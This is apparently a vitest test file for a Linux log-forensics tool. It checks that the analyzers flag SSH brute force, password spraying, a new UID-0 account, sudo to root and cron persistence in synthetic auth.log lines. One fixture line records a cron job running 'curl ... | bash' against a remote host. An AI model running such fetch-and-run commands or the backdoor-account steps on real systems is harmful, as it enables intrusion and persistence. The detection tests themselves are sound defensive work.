import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { CORPUS } from '../../../test/support/corpus.ts';
import type { Event } from '../../core/event.ts';
import type { Finding } from '../../core/finding.ts';
import { syslogParser } from '../../sources/linux/syslog-reader.ts';
import { linuxReaders } from '../../sources/linux/index.ts';
import { DEFAULT_ANALYSIS_OPTIONS } from '../types.ts';
import { linuxAnalyzers } from './index.ts';

function analyze(events: Event[], opts = {}): Finding[] {
  const out: Finding[] = [];
  for (const a of linuxAnalyzers({ ...DEFAULT_ANALYSIS_OPTIONS, ...opts })) {
    for (const e of events) if (a.wants(e)) a.add(e);
    out.push(...a.finish());
  }
  return out;
}

function log(lines: string[]): Event[] {
  const p = syslogParser({ file: 'auth.log', mtimeUs: Date.UTC(2024, 11, 31) * 1000 });
  return lines.map((l, i) => p.line(l, i + 1)!).filter(Boolean);
}

describe('Linux analyzers', () => {
  it('brute force: per-connection guesses, then a success, is critical', () => {
    const lines: string[] = [];
    for (let i = 0; i < 12; i++) {
      lines.push(
        `Mar  1 03:00:${String(i).padStart(2, '0')} web sshd[${100 + i}]: Failed password for root from 203.0.113.9 port ${4000 + i} ssh2`,
      );
      lines.push(
        `Mar  1 03:00:${String(i).padStart(2, '0')} web sshd[${100 + i}]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.9  user=root`,
      );
      lines.push(
        `Mar  1 03:00:${String(i).padStart(2, '0')} web sshd[${100 + i}]: Connection closed by authenticating user root 203.0.113.9 port ${4000 + i} [preauth]`,
      );
    }
    lines.push('Mar  1 03:01:00 web sshd[200]: Accepted password for root from 203.0.113.9 port 5000 ssh2');
    const f = analyze(log(lines)).filter((x) => x.kind === 'brute-force');
    expect(f).toHaveLength(1);
    expect(f[0]).toMatchObject({
      severity: 'critical',
      peer: '203.0.113.9',
      host: 'web',
      count: 12,
      producer: 'linux-ssh-brute-force',
    });
    expect(f[0].attack).toContain('T1078');
    expect(f[0].summary_ja).toContain('成功');
    expect(f[0].evidence.at(-1)!.line).toBe(lines.length);
  });
  it('spraying: many user names from one source', () => {
    const users = ['admin', 'oracle', 'test', 'git', 'ubuntu', 'pi'];
    const lines = users.map(
      (u, i) => `Mar  1 04:00:0${i} web sshd[${300 + i}]: Invalid user ${u} from 198.51.100.4 port ${5000 + i}`,
    );
    const f = analyze(log(lines)).filter((x) => x.kind === 'brute-force');
    expect(f[0]).toMatchObject({
      severity: 'high',
      count: 6,
      details: expect.objectContaining({ spray: true, distinct_users: 6 }),
    });
  });
  it('new uid-0 account, privileged group, sudo by a new account, suspicious cron', () => {
    const f = analyze(
      log([
        'Mar  2 10:00:00 web useradd[1]: new user: name=svc, UID=0, GID=0, home=/root, shell=/bin/bash',
        'Mar  2 10:00:01 web useradd[2]: new user: name=bob, UID=1005, GID=1005, home=/home/bob, shell=/bin/bash',
        "Mar  2 10:00:02 web usermod[3]: add 'bob' to group 'sudo'",
        'Mar  2 10:05:00 web sudo:      bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash',
        'Mar  2 10:06:00 web crontab[9]: (bob) REPLACE (root)',
        'Mar  2 10:07:01 web CRON[10]: (root) CMD (curl -s http://203.0.113.5/x.sh | bash)',
        'Mar  2 10:08:01 web CRON[11]: (root) CMD (run-parts /etc/cron.hourly)',
      ]),
    );
    const kinds = f.map((x) => `${x.kind}:${x.severity}`).sort();
    expect(kinds).toEqual([
      'cron-change:medium',
      'cron-persistence:high',
      'new-account:critical',
      'new-account:medium',
      'privileged-group-add:high',
      'sudo-root:high',
    ]);
  });
  it('sudo allowlist: unexpected users are reported, expected ones are not', () => {
    const ev = log([
      'Mar  2 10:05:00 web sudo:      ann : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/id',
      'Mar  2 10:05:00 web sudo:      eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/id',
    ]);
    const f = analyze(ev, { sudoUsers: ['ann'] }).filter((x) => x.kind === 'sudo-root');
    expect(f.map((x) => x.details!.user)).toEqual(['eve']);
  });
});

const dir = join(CORPUS, 'linux', 'aplicada_tp');
describe.skipIf(!existsSync(dir))('aplicada_tp lab VM (auth.log*, wtmp)', () => {
  it('finds the successful guessing, the new account that became root, and its refused sudo', async () => {
    const events: Event[] = [];
    for (const [id, f] of [
      ['syslog', 'auth.log'],
      ['syslog', 'auth.log.1'],
      ['syslog', 'auth.log.2.gz'],
      ['wtmp', 'wtmp'],
    ] as const) {
      const r = linuxReaders.find((x) => x.id === id)!;
      for await (const e of r.read(join(dir, f), { issues: [], displayPath: f, mtimeUs: Date.UTC(2021, 10, 1) * 1000 }))
        events.push(e);
    }
    const f = analyze(events);
    const bf = f.find((x) => x.kind === 'brute-force')!;
    expect(bf).toMatchObject({ peer: '192.168.56.103', severity: 'critical' });
    expect(f.find((x) => x.kind === 'sudo-root')?.details).toMatchObject({ user: 'gus', target: 'root' });
    expect(f.some((x) => x.kind === 'sudo-denied' && x.details!.user === 'gus')).toBe(true);
    expect(f.filter((x) => x.kind === 'root-remote-login').every((x) => x.count > 1)).toBe(true);
  });
});
